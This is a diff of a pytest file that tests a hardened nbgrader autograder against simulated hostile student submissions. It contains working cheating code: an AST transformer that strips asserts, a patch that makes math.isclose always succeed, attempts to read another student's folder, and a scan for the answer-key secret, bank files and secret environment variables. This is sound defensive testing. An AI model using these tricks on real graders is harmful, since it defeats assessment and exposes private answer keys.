+    "links": f_links, "hardlink": f_hardlink, "link_notebook": f_link_notebook, "link_folder": f_link_folder,
+    "fifo": f_fifo,
+}
+REFUSED = tuple(FOLDERS)  # submissions the grader must refuse without reading them
+
+
+LAB_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
     "solution": s_solution, "release": s_release, "partial": s_partial, "hang": s_hang,
     "hang_sigint": s_hang_sigint, "os_exit": s_os_exit, "kill": s_kill, "sys_exit": s_sys_exit,
     "showtraceback": s_showtraceback, "displayhook": s_displayhook, "flood": s_flood, "tamper": s_tamper,
-    "rebind": s_rebind, "transformer": s_transformer,
+    "rebind": s_rebind, "transformer": s_transformer, "skip_tags": s_skip_tags, "skip_tags_unstripped": s_skip_tags,
 }
-LOOPING = ("hang", "hang_sigint")  # graded with HANG_TIMEOUT_S instead of the repository's 30 s
-HARDENED_STUDENTS = ("solution", "rebind")  # what the hardened copy of a lab is graded with
+SANDBOX_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
+    # print_200mb first: the grader's peak memory is compared before and after it
+    "print_200mb": s_print_200mb, "solution": s_solution, "snoop": s_snoop, "exec_source": s_exec_source,
+    "copy_other": s_copy_other, "background": s_background, "fork_bomb": s_fork_bomb, "alloc_4g": s_alloc_4g,
+    "network": s_network, "key_print": s_key_print, "inject": s_inject, "leak_tests": s_leak_tests,
+    "links": s_links, "hardlink": s_links, "link_notebook": s_solution, "link_folder": s_solution,
+    "fifo": s_solution,
+}
+LOOPING = ("hang", "hang_sigint", "fork_bomb")  # graded with HANG_TIMEOUT_S instead of the repository's 30 s
 REVIEWED = ("hang_sigint", "os_exit", "kill", "showtraceback", "displayhook", "transformer")  # must be flagged
-NOT_REVIEWED = ("solution", "release", "partial", "hang", "flood", "tamper")  # must not be
+NOT_REVIEWED = ("solution", "release", "partial", "hang", "flood", "tamper", "skip_tags")  # must not be
+
+
+# --- The graded quiz's students --------------------------------------------------------------------------------------
+
+def quiz_answers(bank: str, student: str) -> list[tuple[str, object, float]]:
+    """(pool key, right answer, points) for each question of `student`'s draw, in slot order (instructor-side)."""
+    from quizzes.graded.draw import draw
+    from quizzes.graded.pool import load_pool
+    from quizzes.graded.scoring import reference_answers
+    from quizzes.graded.secret import default_secret_path, load_secret
+
+    secret = load_secret(default_secret_path(Path(bank)))
+    right = reference_answers(Path(bank), secret, student, QUIZ)
+    slots = draw(load_pool(Path(bank), secret, QUIZ).sheet(), student)
+    return [(slot.key, right[slot.key], slot.points) for slot in slots]
+
+
+def quiz_answered(ctx: Context, student: str, how_many: int | None = None) -> NotebookNode:
+    """The release with STUDENT_ID set and the first `how_many` questions of the draw answered, as literals."""
+    nb = copy.deepcopy(ctx.release)
+    chosen = quiz_answers(ctx.bank, student)[:how_many]
+    for cell in nb.cells:
+        if cell.cell_type != "code" or meta(cell).get("locked"):
+            continue
+        if cell.source.startswith("STUDENT_ID"):
+            cell.source = f"STUDENT_ID = {student!r}"
+        for key, value, _ in chosen:
+            if cell.source.startswith(f'answers["{key}"]'):
+                cell.source = f'answers["{key}"] = {value!r}'
+    return nb
+
+
+def q_solution(ctx: Context, student: str) -> NotebookNode:
+    return quiz_answered(ctx, student)
+
+
+def q_release(ctx: Context, student: str) -> NotebookNode:
+    return copy.deepcopy(ctx.release)
+
+
+def q_partial(ctx: Context, student: str) -> NotebookNode:
+    return quiz_answered(ctx, student, 1)
+
+
+def q_skip_tags(ctx: Context, student: str) -> NotebookNode:
+    nb = copy.deepcopy(ctx.release)
+    for cell in nb.cells:
+        cell.metadata["tags"] = list(EXECUTION_TAGS)
+    return nb
+
+
+KERNEL_CHEATS = '''\
+import ast, importlib, math, os
+
+importlib.reload = lambda m: m  # the old quiz reloaded its checker
+math.isclose = lambda *a, **k: True  # and compared numbers with isclose
+
+
+class _Strip(getattr(ast, "Node" + "Transformer")):
+    def visit_Assert(self, node):  # every assert becomes `pass`
+        return getattr(ast, "Pa" + "ss")()
+
+
+getattr(get_ipython(), "ast_" + "transformers").append(_Strip())
+for _where in ("../../q_solution/quiz1", {other!r}):
+    try:
+        os.chdir(_where)
+        print("CHDIR", _where)
+        break
+    except OSError as _e:
+        print("DENIED", _where, type(_e).__name__)
+'''
+
+
+def q_kernel_cheats(ctx: Context, student: str) -> NotebookNode:
+    nb = quiz_answered(ctx, student, 1)
+    other = str(ctx.root / "submitted" / "q_solution" / QUIZ)
+    code = KERNEL_CHEATS.format(other=other) + EXEC_NOTEBOOKS.format(patterns=["*.ipynb", "../*/quiz1/*.ipynb"])
+    nb.cells.append(nbformat.v4.new_code_cell(code))
+    return nb
+
+
+KEY_IMPORT = '''\
+import glob, os
+
+from quizzes import graded
+
+print("GRADED", [n for n in dir(graded) if not n.startswith("__")])
+_package = os.path.dirname(graded.__file__)
+for _path in glob.glob(os.path.join(_package, "**", "*"), recursive=True) + {paths!r}:
+    try:
+        with open(_path, "rb") as _f:
+            _data = _f.read()
+        if b"expected" in _data or b"answer" in _data:
+            print("READ", _path, len(_data))
+    except Exception as _e:
+        print("DENIED", _path, type(_e).__name__)
+try:
+    from quizzes.graded.scoring import reference_answers
+    for _bank in {banks!r}:
+        try:
+            for _k, _v in reference_answers(_bank, b"guess" * 8, {student!r}).items():
+                answers[_k] = _v  # a computed value: the grader reads literals only
+        except Exception as _e:
+            print("DENIED", _bank, type(_e).__name__)
+except ImportError as _e:
+    print("DENIED", "reference_answers", type(_e).__name__)
+print("ENV", sorted(k for k in os.environ if "SECRET" in k or "BANK" in k))
+'''
+
+
+def q_key_import(ctx: Context, student: str) -> NotebookNode:
+    nb = copy.deepcopy(ctx.release)
+    banks = [ctx.bank, str(BANK_FIXTURE)]
+    paths = [os.path.join(ctx.bank, "course.secret"), os.path.join(ctx.bank, "quiz1.json"),
+             str(BANK_FIXTURE / "quiz1.json")]
+    nb.cells.append(nbformat.v4.new_code_cell(KEY_IMPORT.format(paths=paths, banks=banks, student=student)))
+    return nb
+
+
+QUIZ_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
+    "q_solution": q_solution, "q_release": q_release, "q_partial": q_partial, "q_skip_tags": q_skip_tags,
+    "q_kernel_cheats": q_kernel_cheats, "q_key_import": q_key_import,
+}
 
 
 # --- Grading, in worker processes ------------------------------------------------------------------------------------
 
 @dataclass
 class Job:
+    kind: str  # "lab", "sandbox" or "quiz"
     assignment: Assignment
     workdir: str
     students: tuple[str, ...]
-    hardened: bool = False  # grade harden(source) instead of the committed source
+    token: str
+    key_path: str
+    bank: str = ""  # the quiz's private bank (a copy of the fixture, with its secret and build record)
 
 
 def load_config(assignment: Assignment, root: Path):
@@ -507,63 +774,121 @@ def load_config(assignment: Assignment, root: Path):
 
 
 def grade(job: Job) -> dict:
-    """Run the whole pipeline for one assignment in its own course directory; return what the tests check."""
+    """Run the whole pipeline for one job in its own course directory; return what the tests check."""
     try:
         return _grade(job)
     except Exception:
         return {"crash": traceback.format_exc()}
 
 
+class Listener:
+    """A TCP server on the grader's loopback: counts the connections a submission manages to make."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.accepted = 0
+        self.stop = False
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _run(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.accepted += 1
+            conn.close()
+
+    def close(self):
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+
+
+def survivors(token: str) -> list[str]:
+    """Command lines of the processes, anywhere on this machine, that carry `token`."""
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if token in cmdline and str(os.getpid()) != pid:
+            found.append(f"{pid}: {cmdline[:200]}")
+    return found
+
+
 def _grade(job: Job) -> dict:
-    from nbgrader.api import Gradebook
+    from nbgrader.api import Gradebook, MissingEntry
     from nbgrader.apps import NbGraderAPI
     from nbgrader.plugins import CsvExportPlugin
 
     # nbgrader runs the `alembic` script by name; the venv need not be activated
     os.environ["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
-    # the grading kernels import minialloc and, for the quiz, the repository's quizzes package
-    os.environ["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))
     os.environ["MINIALLOC_DEVICE"] = "sim"
     os.environ["MPLBACKEND"] = "Agg"
     a, root = job.assignment, Path(job.workdir)
     name = a.name
     (root / "source").mkdir(parents=True)
     shutil.copytree(a.notebook.parent, root / "source" / name)
-    source = a.source()
-    if job.hardened:
-        source = harden(source, a.student_names)
-        nbformat.write(source, root / "source" / name / f"{name}.ipynb")
+    source = nbformat.read(root / "source" / name / f"{name}.ipynb", as_version=4)  # exactly what is graded
     config = load_config(a, root)
-    api = NbGraderAPI(config=config)
+    config.ScanForKeys.key_files = [job.key_path] + ([os.path.join(job.bank, "course.secret")] if job.bank else [])
+    if job.bank:
+        config.QuizGrade.bank_dir = job.bank
+    apis = {"normal": NbGraderAPI(config=config)}
     looping = copy.deepcopy(config)
     looping.Execute.timeout = HANG_TIMEOUT_S
     looping.GuardedExecute.interrupt_grace = HANG_GRACE_S
-    looping_api = NbGraderAPI(config=looping)
+    apis["looping"] = NbGraderAPI(config=looping)
+    unstripped = copy.deepcopy(config)
+    unstripped.Autograde.autograde_preprocessors = [
+        p for p in config.Autograde.autograde_preprocessors if getattr(p, "__name__", "") != "StripExecutionControl"]
+    apis["unstripped"] = NbGraderAPI(config=unstripped)
 
-    start = time.monotonic()
-    generated = api.generate_assignment(name)
-    out: dict = {"root": str(root), "generate": generated["success"], "generate_s": time.monotonic() - start,
+    generated = apis["normal"].generate_assignment(name)
+    out: dict = {"root": str(root), "generate": generated["success"], "points": points(source),
                  "log": {"generate": generated.get("log", "")[-4000:]}, "students": {}}
     if not generated["success"]:
         return out
     release = nbformat.read(root / "release" / name / f"{name}.ipynb", as_version=4)
-    ctx = Context(a, source, release)
-    if job.hardened:
-        ctx.assignment = Assignment(name, root / "source", a.config, None, a.student_names, a.hardenable)
+    key_pem = Path(job.key_path).read_text()
+    listener = Listener()
+    ctx = Context(a, root, source, release, job.token, listener.port, job.key_path, key_pem, job.bank)
+    students = {"lab": LAB_STUDENTS, "sandbox": SANDBOX_STUDENTS, "quiz": QUIZ_STUDENTS}[job.kind]
     for student in job.students:
         folder = root / "submitted" / student / name
         folder.mkdir(parents=True)
-        nbformat.write(STUDENTS[student](ctx, student), folder / f"{name}.ipynb")
+        nbformat.write(students[student](ctx, student), folder / f"{name}.ipynb")
+        if job.kind == "sandbox" and student in FOLDERS:
+            FOLDERS[student](ctx, folder)
     for student in job.students:
-        start = time.monotonic()
-        result = (looping_api if student in LOOPING else api).autograde(name, student)
-        out["students"][student] = {"success": result["success"], "seconds": time.monotonic() - start}
+        api = apis["looping" if student in LOOPING else "unstripped" if student.endswith("_unstripped") else "normal"]
+        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+        result = api.autograde(name, student)
+        out["students"][student] = {"success": result["success"],
+                                    "maxrss_growth_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before}
         out["log"][student] = (result.get("log") or "")[-6000:]
-    feedback = api.generate_feedback(name)
+    listener.close()
+    out["connections"] = listener.accepted
+    time.sleep(4)  # what a surviving background process would need to strike (it waits 2 s)
+    out["survivors"] = survivors(job.token)
+    feedback = apis["normal"].generate_feedback(name)
     out["feedback"] = feedback["success"]
+    out["log"]["feedback"] = (feedback.get("log") or "")[-4000:]
     with Gradebook(config.CourseDirectory.db_url) as gb:
         for student, record in out["students"].items():
-            submission = gb.find_submission(name, student)
+            record["autograded"] = (root / "autograded" / student / name).exists()
+            try:
+                submission = gb.find_submission(name, student)
+            except MissingEntry:  # refused before nbgrader recorded it
+                record.update(score=None, max_score=None, cells={}, needs_review=False)
+                continue
             notebook = gb.find_submission_notebook(name, name, student)
             record.update(score=submission.score, max_score=submission.max_score,
                           cells={g.name: g.score for g in notebook.grades},
@@ -574,294 +899,468 @@ def _grade(job: Job) -> dict:
 
 @dataclass
 class Results:
-    by_job: dict[tuple[str, bool], dict] = field(default_factory=dict)
-    seconds: float = 0.0
+    by_job: dict[str, dict] = field(default_factory=dict)
+    key_path: str = ""
+    bank: str = ""
 
-    def get(self, assignment: str, hardened: bool = False) -> dict:
-        out = self.by_job[assignment, hardened]
+    def get(self, job: str) -> dict:
+        out = self.by_job[job]
         assert "crash" not in out, out["crash"]
         assert out["generate"], out["log"]["generate"]
         return out
 
-    def student(self, assignment: str, student: str, hardened: bool = False) -> dict:
-        return self.get(assignment, hardened)["students"][student]
+    def student(self, job: str, student: str) -> dict:
+        return self.get(job)["students"][student]
 
-    def autograded(self, assignment: str, student: str, hardened: bool = False) -> NotebookNode:
-        root = Path(self.get(assignment, hardened)["root"])
-        return nbformat.read(root / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)
+    def score(self, job: str, student: str) -> tuple[float, float]:
+        record = self.student(job, student)
+        return record["score"], record["max_score"]
+
+    def source(self, job: str) -> NotebookNode:
+        """The source notebook the job graded (its copy: the repository's may have changed since)."""
+        name = self.assignment(job)
+        return nbformat.read(Path(self.get(job)["root"]) / "source" / name / f"{name}.ipynb", as_version=4)
+
+    def total(self, job: str) -> float:
+        return sum(self.get(job)["points"].values())
+
+    def why(self, job: str, student: str) -> str:
+        record = {k: v for k, v in self.student(job, student).items()}
+        log = self.get(job)["log"].get(student, "")
+        return f"{student}: {record}\n--- autograde log (end) ---\n{log[-3000:]}"
+
+    def autograded(self, job: str, student: str) -> NotebookNode:
+        out = self.get(job)
+        name = self.assignment(job)
+        return nbformat.read(Path(out["root"]) / "autograded" / student / name / f"{name}.ipynb", as_version=4)
+
+    def feedback(self, job: str, student: str) -> Path:
+        name = self.assignment(job)
+        return Path(self.get(job)["root"]) / "feedback" / student / name / f"{name}.html"
+
+    @staticmethod
+    def assignment(job: str) -> str:
+        return job.removeprefix("sandbox:")
 
 
-def jobs(tmp: Path) -> list[Job]:
-    out = [Job(a, str(tmp / a.name), tuple(STUDENTS)) for a in ASSIGNMENTS]
-    out += [Job(a, str(tmp / f"{a.name}-hardened"), HARDENED_STUDENTS, hardened=True)
-            for a in ASSIGNMENTS if a.hardenable and exposed(a.source(), a.student_names)]
-    return out
+def make_key(folder: Path) -> Path:
+    """An issuer-like Ed25519 key (PKCS#8 PEM, unencrypted), as keygen writes one."""
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+    folder.mkdir(mode=0o700)
+    path = folder / "issuer-ed25519.pem"
+    path.write_bytes(Ed25519PrivateKey.generate().private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
+    path.chmod(0o600)
+    return path
+
+
+def make_quiz(tmp: Path) -> tuple[Assignment, str]:
+    """quiz1 built from a copy of the sample private bank with a fresh course secret: (assignment, bank folder)."""
+    from quizzes.graded.build import build
+    from quizzes.graded.secret import default_secret_path, load_secret, new_secret
+
+    bank = tmp / "private_bank"
+    shutil.copytree(BANK_FIXTURE, bank)
+    new_secret(default_secret_path(bank))
+    build(bank, load_secret(default_secret_path(bank)), quiz=QUIZ, out_dir=tmp / "quiz_source", progress=False)
+    return Assignment(QUIZ, tmp / "quiz_source", QUIZ_CONFIG), str(bank)
 
 
 @pytest.fixture(scope="module")
 def results(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Results]:
+    assert shutil.which("bwrap"), "bubblewrap is not installed (apt-get install bubblewrap; .ci/run does it)"
     tmp = tmp_path_factory.mktemp("hostile")
-    todo = jobs(tmp)
-    start = time.monotonic()
-    workers = max(1, min(len(todo), os.cpu_count() or 1, 4))
+    key = make_key(tmp / "issuer")
+    quiz, bank = make_quiz(tmp)
+    token = f"hostile-{uuid.uuid4().hex}"
+    # the sandbox job first: it then starts in a fresh worker, whose peak memory print_200mb is measured against
+    jobs = {SANDBOX: Job("sandbox", LAB[LABS[0]], str(tmp / "sandbox"), tuple(SANDBOX_STUDENTS), token, str(key))}
+    jobs.update({lab: Job("lab", LAB[lab], str(tmp / lab), tuple(LAB_STUDENTS), token, str(key)) for lab in LABS})
+    jobs[QUIZ] = Job("quiz", quiz, str(tmp / QUIZ), tuple(QUIZ_STUDENTS), token, str(key), bank)
+    workers = max(1, min(len(jobs), os.cpu_count() or 1, 4))
     # spawn, not fork: the workers run kernels and event loops of their own
     with ProcessPoolExecutor(max_workers=workers, mp_context=get_context("spawn")) as pool:
-        done = dict(zip([(j.assignment.name, j.hardened) for j in todo], pool.map(grade, todo), strict=True))
-    yield Results(done, time.monotonic() - start)
+        done = dict(zip(jobs, pool.map(grade, jobs.values()), strict=True))
+    yield Results(done, str(key), bank)
 
 
-# --- Which defences an assignment's own config and source already have ----------------------------------------------
+# --- The configuration ------------------------------------------------------------------------------------------------
 
-def config_is_hardened(assignment: Assignment) -> bool:
-    """Does the assignment's nbgrader config install the grader's preprocessors from nbgrader_config.py?"""
-    config = load_config(assignment, Path("/nonexistent"))
-    names = [getattr(p, "__name__", str(p)) for p in config.Autograde.get("autograde_preprocessors", [])]
-    names += [getattr(p, "__name__", str(p)) for p in config.Autograde.get("sanitize_preprocessors", [])]
-    return {"GuardedExecute", "RestoringOverwriteCells", "ErrorsFailTests", "FlagForReview"} <= {
-        n.rsplit(".", 1)[-1] for n in names}
+def autograde_names(config) -> list[str]:
+    return [getattr(p, "__name__", str(p)).rsplit(".", 1)[-1] for p in config.Autograde.autograde_preprocessors]
 
 
-def needs_config(assignment: Assignment):
-    """xfail the checks that need the repository's grader preprocessors while an assignment's config lacks them."""
-    return pytest.mark.xfail(
-        not config_is_hardened(assignment), strict=True,
-        reason=f"{assignment.config.relative_to(ROOT)} does not load the grader preprocessors of nbgrader_config.py "
-               "(add load_subconfig(<repo>/nbgrader_config.py) before its own settings)")
+def test_every_lab_is_covered():
+    assert len(LABS) >= 4
 
 
-def params(students: tuple[str, ...] = (), config_dependent: bool = False):
-    out = []
-    for a in ASSIGNMENTS:
-        marks = [needs_config(a)] if config_dependent else []
-        for s in students or (None,):
-            out.append(pytest.param(a.name, s, marks=marks, id=f"{a.name}-{s}" if s else a.name))
-    return out
-
-
-def score(results: Results, assignment: str, student: str, hardened: bool = False) -> tuple[float, float]:
-    record = results.student(assignment, student, hardened)
-    return record["score"], record["max_score"]
-
-
-def why(results: Results, assignment: str, student: str, hardened: bool = False) -> str:
-    record = results.student(assignment, student, hardened)
-    log = results.get(assignment, hardened)["log"].get(student, "")
-    return f"{student}: {record}\n--- autograde log (end) ---\n{log[-3000:]}"
-
-
-def errors(cell: NotebookNode) -> list[str]:
-    return [o.get("ename", "") for o in cell.get("outputs", []) if o.output_type == "error"]
-
-
-def total(assignment: str) -> float:
-    return sum(points(BY_NAME[assignment].source()).values())
-
-
-# --- Tests -----------------------------------------------------------------------------------------------------------
-
-def test_every_lab_and_the_quiz_are_covered():
-    assert len(LABS) >= 4 and all(lab in BY_NAME for lab in LABS)
-    assert (QUIZ_DIR / "source").is_dir() == bool(QUIZZES) and all(quiz in BY_NAME for quiz in QUIZZES)
-
-
-def test_repo_config_installs_the_grader_defences():
+def test_repo_config_installs_the_grader_and_the_sandbox():
     config = PyFileConfigLoader(REPO_CONFIG.name, path=str(ROOT)).load_config()
     assert config.Execute.timeout == 30 and config.Execute.interrupt_on_timeout
     assert config.GuardedExecute.notebook_timeout > config.Execute.timeout
     assert 0 < config.GuardedExecute.max_output_chars <= 1_000_000
-    assert config_is_hardened(Assignment("lab", LABS_SOURCE, REPO_CONFIG))
+    assert config.GuardedExecute.sandbox is True
+    names = autograde_names(config)
+    assert names.index("StripExecutionControl") + 1 == names.index("GuardedExecute")
+    assert names.index("ErrorsFailTests") + 1 == names.index("SaveAutoGrades") < names.index("FlagForReview")
+    sanitize = [getattr(p, "__name__", str(p)) for p in config.Autograde.sanitize_preprocessors]
+    assert "RestoringOverwriteCells" in sanitize and "OverwriteCells" not in sanitize
+    feedback = [getattr(p, "__name__", str(p)).rsplit(".", 1)[-1] for p in config.GenerateFeedback.preprocessors]
+    assert {"ClearHiddenTests", "HideTestTracebacks", "ScanForKeys"} <= set(feedback)
 
 
-def test_whole_file_is_bounded(results: Results):
-    # generation and 14 autogrades per assignment, in parallel: the budget that keeps `make test` reasonable
-    assert results.seconds < 300, results.seconds
+def test_quiz_config_scores_in_the_grader():
+    config = PyFileConfigLoader(QUIZ_CONFIG.name, path=str(QUIZ_CONFIG.parent)).load_config()
+    names = autograde_names(config)
+    assert names.index("GuardedExecute") < names.index("QuizGrade") < names.index("SaveAutoGrades")
+    assert names.index("StripExecutionControl") < names.index("GuardedExecute")
+    assert "quizzes" in config.SandboxKernelManager.packages
 
 
-@pytest.mark.parametrize("assignment,student", params())
-def test_pipeline_ran_for_everyone(results: Results, assignment: str, student: None):
-    out = results.get(assignment)
-    assert set(out["students"]) == set(STUDENTS)
+def test_every_lab_needs_no_hardening():
+    """Hidden tests that look up a locked helper by its public name can be fooled by rebinding it."""
+    for lab in LABS:
+        assert not harden_tool.exposed(LAB[lab].source()), (lab, "run python tools/harden.py on it")
+
+
+# --- Labs ---------------------------------------------------------------------------------------------------------
+
+def lab_params(students: tuple[str, ...]):
+    return [pytest.param(lab, s, id=f"{lab}-{s}") for lab in LABS for s in students]
+
+
+@pytest.mark.parametrize("lab", LABS)
+def test_pipeline_ran_for_everyone(results: Results, lab: str):
+    out = results.get(lab)
+    assert set(out["students"]) == set(LAB_STUDENTS)
+    assert out["feedback"], out["log"]["feedback"]
     with open(Path(out["root"]) / "grades.csv", newline="") as f:
-        rows = [r for r in csv.DictReader(f) if r["assignment"] == assignment]
-    assert {r["student_id"] for r in rows} == set(STUDENTS)
+        rows = [r for r in csv.DictReader(f) if r["assignment"] == lab]
+    assert {r["student_id"] for r in rows} == set(LAB_STUDENTS)
 
 
-@pytest.mark.parametrize("assignment,student", params(("solution",)))
-def test_solution_scores_full_marks(results: Results, assignment: str, student: str):
-    got, max_score = score(results, assignment, student)
-    assert max_score == total(assignment) > 0
-    assert got == max_score, why(results, assignment, student)
-    graded = results.autograded(assignment, student)
+@pytest.mark.parametrize("lab,student", lab_params(("solution",)))
+def test_solution_scores_full_marks(results: Results, lab: str, student: str):
+    got, max_score = results.score(lab, student)
+    assert max_score == results.total(lab) > 0
+    assert got == max_score, results.why(lab, student)
+    graded = results.autograded(lab, student)
     assert not [meta(c).get("grade_id") for c in graded.cells if is_test(c) and errors(c)]
 
 
-@pytest.mark.parametrize("assignment,student", params(("release",)))
-def test_release_scores_zero_in_bounded_time(results: Results, assignment: str, student: str):
-    assert score(results, assignment, student) == (0, total(assignment)), why(results, assignment, student)
-    assert results.student(assignment, student)["seconds"] < RELEASE_BUDGET_S
+@pytest.mark.parametrize("lab,student", lab_params(("release", "sys_exit", "showtraceback", "displayhook")))
+def test_unanswered_and_silenced_submissions_score_zero(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["success"], results.why(lab, student)
+    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)
 
 
-@pytest.mark.parametrize("assignment,student", params(("partial",)))
-def test_partial_scores_its_task(results: Results, assignment: str, student: str):
-    source = BY_NAME[assignment].source()
+@pytest.mark.parametrize("lab,student", lab_params(("partial",)))
+def test_partial_scores_its_task(results: Results, lab: str, student: str):
+    source = results.source(lab)
     task = first_group(source)
     expected = sum(p for gid, p in points(source).items() if group(gid) == task)
-    assert 0 < expected < total(assignment)
-    assert score(results, assignment, student)[0] == expected, why(results, assignment, student)
+    assert 0 < expected < results.total(lab)
+    assert results.score(lab, student)[0] == expected, results.why(lab, student)
 
 
-@pytest.mark.parametrize("assignment,student", params(("hang",)))
-def test_endless_loop_times_out_and_later_cells_are_graded(results: Results, assignment: str, student: str):
-    record = results.student(assignment, student)
-    assert record["success"], why(results, assignment, student)
-    assert score(results, assignment, student) == (total(assignment), total(assignment)), why(
-        results, assignment, student)
-    graded = results.autograded(assignment, student)
-    assert "CellTimeoutError" in errors(first_answer(graded))
-    assert record["seconds"] < HANG_TIMEOUT_S + 60
+@pytest.mark.parametrize("lab,student", lab_params(("hang",)))
+def test_endless_loop_times_out_and_later_cells_are_graded(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["success"], results.why(lab, student)
+    assert results.score(lab, student) == (results.total(lab), results.total(lab)), results.why(lab, student)
+    assert "CellTimeoutError" in errors(first_answer(results.autograded(lab, student)))
 
 
-@pytest.mark.parametrize("assignment,student", params(("hang_sigint",), config_dependent=True))
-def test_loop_that_ignores_the_interrupt_is_killed_in_bounded_time(results: Results, assignment: str, student: str):
-    record = results.student(assignment, student)
-    assert record["success"], why(results, assignment, student)
-    assert score(results, assignment, student)[0] == 0
-    graded = results.autograded(assignment, student)
+@pytest.mark.parametrize("lab,student", lab_params(("hang_sigint",)))
+def test_loop_that_ignores_the_interrupt_is_killed(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["success"], results.why(lab, student)
+    assert results.score(lab, student)[0] == 0
+    graded = results.autograded(lab, student)
     hung = first_answer(graded)
     assert "CellTimeoutError" in errors(hung), hung.outputs
     later = graded.cells[graded.cells.index(hung) + 1:]
     assert all("NotRun" in errors(c) for c in later if is_test(c))
-    assert record["seconds"] < HANG_TIMEOUT_S + IOPUB_TIMEOUT_S + HANG_GRACE_S + 60
 
 
-@pytest.mark.parametrize("assignment,student", params(("os_exit", "kill"), config_dependent=True))
-def test_dead_kernel_gains_nothing_and_is_graded(results: Results, assignment: str, student: str):
-    record = results.student(assignment, student)
-    assert record["success"], why(results, assignment, student)
-    graded = results.autograded(assignment, student)
+@pytest.mark.parametrize("lab,student", lab_params(("os_exit", "kill")))
+def test_dead_kernel_gains_nothing_and_is_graded(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["success"], results.why(lab, student)
+    graded = results.autograded(lab, student)
     dead = last_answer(graded) if student == "os_exit" else first_answer(graded)
     assert "DeadKernelError" in errors(dead), dead.outputs
-    # the tests before the death keep their points, every later one failed without running
-    assert score(results, assignment, student)[0] == points_before(graded, dead), why(results, assignment, student)
+    assert results.score(lab, student)[0] == points_before(graded, dead), results.why(lab, student)
     later = graded.cells[graded.cells.index(dead) + 1:]
     assert [c for c in later if is_test(c)] and all("NotRun" in errors(c) for c in later if is_test(c))
-    root = Path(results.get(assignment)["root"])
-    assert (root / "feedback" / student / assignment / f"{assignment}.html").is_file()
 
 
-@pytest.mark.parametrize("assignment,student", params(("sys_exit", "showtraceback")))
-def test_exits_and_silenced_tracebacks_gain_nothing(results: Results, assignment: str, student: str):
-    assert results.student(assignment, student)["success"], why(results, assignment, student)
-    assert score(results, assignment, student) == (0, total(assignment)), why(results, assignment, student)
-
-
-@pytest.mark.parametrize("assignment,student", params(("displayhook",), config_dependent=True))
-def test_displayed_partial_credit_before_an_error_gains_nothing(results: Results, assignment: str, student: str):
-    assert score(results, assignment, student) == (0, total(assignment)), why(results, assignment, student)
-
-
-@pytest.mark.parametrize("assignment,student", params(("flood",), config_dependent=True))
-def test_megabytes_of_output_are_capped_and_graded_normally(results: Results, assignment: str, student: str):
-    assert score(results, assignment, student) == (total(assignment), total(assignment)), why(
-        results, assignment, student)
-    graded = results.autograded(assignment, student)
+@pytest.mark.parametrize("lab,student", lab_params(("flood",)))
+def test_megabytes_of_output_are_capped_and_graded_normally(results: Results, lab: str, student: str):
+    assert results.score(lab, student) == (results.total(lab), results.total(lab)), results.why(lab, student)
+    graded = results.autograded(lab, student)
     text = "".join(o.get("text", "") for o in first_answer(graded).outputs if o.output_type == "stream")
     assert "output truncated by the grader" in text
     assert len(text) < 200_000, len(text)  # the config keeps 100 000 characters per cell
-    root = Path(results.get(assignment)["root"])
-    path = root / "autograded" / student / assignment / f"{assignment}.ipynb"
+    path = Path(results.get(lab)["root"]) / "autograded" / student / lab / f"{lab}.ipynb"
     assert path.stat().st_size < 1_000_000, path.stat().st_size
 
 
-@pytest.mark.parametrize("assignment,student", params(("tamper",), config_dependent=True))
-def test_tampered_tests_are_restored_and_gain_nothing(results: Results, assignment: str, student: str):
-    record = results.student(assignment, student)
-    assert record["success"], why(results, assignment, student)
-    assert score(results, assignment, student) == (0, total(assignment)), why(results, assignment, student)
-    assert set(record["cells"]) == set(points(BY_NAME[assignment].source())), record["cells"]
-    graded = results.autograded(assignment, student)
-    source = {meta(c)["grade_id"]: c for c in BY_NAME[assignment].source().cells if is_test(c)}
+@pytest.mark.parametrize("lab,student", lab_params(("tamper",)))
+def test_tampered_tests_are_restored_and_gain_nothing(results: Results, lab: str, student: str):
+    record = results.student(lab, student)
+    assert record["success"], results.why(lab, student)
+    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)
+    assert set(record["cells"]) == set(points(results.source(lab))), record["cells"]
+    graded = results.autograded(lab, student)
+    source = {meta(c)["grade_id"]: c for c in results.source(lab).cells if is_test(c)}
     for grade_id, original in source.items():
         copies = [c for c in graded.cells if meta(c).get("grade_id") == grade_id]
         assert len(copies) == 1, (grade_id, len(copies))
-        restored = copies[0]
-        assert restored.cell_type == "code" and restored.source.endswith(original.source), grade_id
-        assert errors(restored), f"{grade_id} was not run"  # the release cannot pass a test
-    # restored in the instructor's order, each in its place
+        assert copies[0].cell_type == "code" and copies[0].source.endswith(original.source), grade_id
+        assert errors(copies[0]), f"{grade_id} was not run"  # the release cannot pass a test
     assert [meta(c)["grade_id"] for c in graded.cells if meta(c).get("grade_id") in source] == list(source)
 
 
